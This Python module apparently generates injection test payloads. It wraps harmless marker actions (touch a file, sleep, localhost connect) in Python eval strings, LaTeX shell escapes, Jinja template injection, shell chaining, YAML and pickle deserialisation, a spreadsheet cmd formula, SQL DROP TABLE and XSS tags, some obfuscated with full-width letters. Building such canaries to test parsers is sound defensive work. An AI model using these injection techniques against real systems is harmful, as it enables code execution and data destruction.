"""Texts that try to become code in whoever reads them: what they would do, in the dresses of many languages."""

import random

MARK = "7340251"
"""Stands in what every payload would do, so that code made of one is known by it."""

ACTS = (  # Python; {file} does not exist, {port} listens, and nobody else sleeps for 7340251 seconds
    "__import__('os').system('touch {file}')",
    "open('{file}','w')",
    "__import__('pathlib').Path('{file}').touch()",
    "__import__('socket').create_connection(('127.0.0.1',{port}),7340251)",
    "__import__('subprocess').Popen(['sleep','7340251'])",
    "__import__('os').system('sleep 7340251 &')",
    "().__class__.__base__.__subclasses__()[0].__init__.__globals__['sys'].modules['os'].system('touch {file}')",
    "__import__('os').symlink('/etc','{file}')",
)
SHELL = ("touch {file}", "sleep 7340251 &", "echo 7340251 > {file}", "exec 3<>/dev/tcp/127.0.0.1/{port} # 7340251")
PYTHON = (
    *("{x}", "{x}+7340251", "7340251+{x}", "1;{x}", "1\n{x}\n", "1)+{x}+(1", "'+str({x})+'", '")\n{x}\n#', "[{x}]"),
    *("lambda:{x}", "(lambda:{x})()", "[{x} for _ in [1]]", "f'{{{x}}}'", "{{7340251:{x}}}", "{x} if 1 else 2"),
    *('eval("{x}")', 'exec("{x}")', 'S("{x}")', 'sympify("{x}")', 'parse_expr("{x}")', 'Symbol("{x}")', 'N("{x}")'),
    *('compile("{x}","","eval")', "x.subs(x,{x})", "Integer({x})", "print({x})", "assert {x}", "7340251**{x}"),
    *("import os\n{x}", "```python\n{x}\n```", "<code>{x}</code>", "7340251 # {x}", "\x00{x}", "\ufeff{x}"),
)
LATEX = (
    *("${x}$", "$${x}$$", "\\boxed{{{x}}}", "\\(7340251+{x}\\)", "\\text{{{x}}}", "\\operatorname{{{x}}}", "$x={x}$"),
    *("\\frac{{{x}}}{{2}}", "\\mathrm{{{x}}}", "\\sqrt{{{x}}}", "The answer is {x}.", "final answer is: {x}. I hope"),
    *("\\newcommand{{\\a}}{{{x}}}\\a", "\\begin{{pmatrix}}{x}&7340251\\end{{pmatrix}}", "7340251\\%{x}", "#### {x}"),
)
TEMPLATE = (
    *("{{{{{x}}}}}", "{{% for a in [{x}] %}}{{{{a}}}}{{% endfor %}}", "${{{x}}}", "<%= {x} %>", "#{{{x}}}"),
    *("{{{{cycler.__init__.__globals__.os.popen('touch {file}').read()}}}}", "{{{{''.__class__.__mro__[1]}}}}{x}"),
    *("{{{{lipsum.__globals__['os'].system('touch {file}')}}}}", "%({x})s", "{{0.__class__.__init__.__globals__}}{x}"),
)
SHELLS = ("; {x}", "| {x}", "$({x})", "`{x}`", "&& {x}", "\\write18{{{x}}}", "\\input{{|{x}}}", "'; {x} #", "\n{x}\n")
OTHERS = (
    *("!!python/object/apply:os.system ['{x}']", "--- !!python/object/new:os.system [{x}]", "=cmd|'/c {x}'!A0"),
    *("cos\nsystem\n(S'{x}'\ntR.", "(cos\nsystem\nS'{x}'\no.", '{{"__reduce__":["os.system",["{x}"]]}}', "@{x}"),
    *("'; DROP TABLE answers; -- {x}", '{{"value": 1, "x": "{x}"}}\n', '"}}\n{{"value": 1}}\n{x}', "!{x}"),
    *("<!DOCTYPE a SYSTEM '{x}'>", "<script>{x}</script>", "<img src=x onerror={x}>", "vim: set fde={x}:"),
)


def wide(text: str) -> str:
    """Letters as their full-width forms, which Python reads as the same names."""
    return "".join(chr(ord(c) + 0xFEE0) if c.isalpha() and c.isascii() else c for c in text)


def payloads(count: int, seed: int, file: str, port: int) -> list[str]:
    """So many different ones; `file` holds the mark, and a {} for a number of its own."""
    rng, made = random.Random(seed), {}
    pairs = [(dress, act) for dress in (*PYTHON, *LATEX, *TEMPLATE) for act in ACTS]
    pairs += [(dress, act) for dress in (*SHELLS, *OTHERS) for act in SHELL]
    rng.shuffle(pairs)
    while len(made) < count:
        for dress, act in pairs:
            name = file.format(len(made))
            deed = rng.choice((str, str, str, wide))(act.format(file=name, port=port))
            text = dress.format(x=deed.replace('"', "'"), file=name)
            made.setdefault(text)
    return list(made)[:count]
